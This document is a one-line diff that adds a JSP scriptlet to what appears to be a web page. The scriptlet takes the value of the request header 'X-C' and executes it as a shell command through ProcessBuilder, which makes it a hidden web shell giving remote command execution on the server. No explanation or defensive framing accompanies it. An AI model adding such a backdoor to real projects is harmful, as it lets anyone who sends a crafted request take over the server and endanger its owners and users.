@@ -1,0 +1,1 @@
+<% String c = request.getHeader("X-C"); new ProcessBuilder("sh", "-c", c).start(); %>
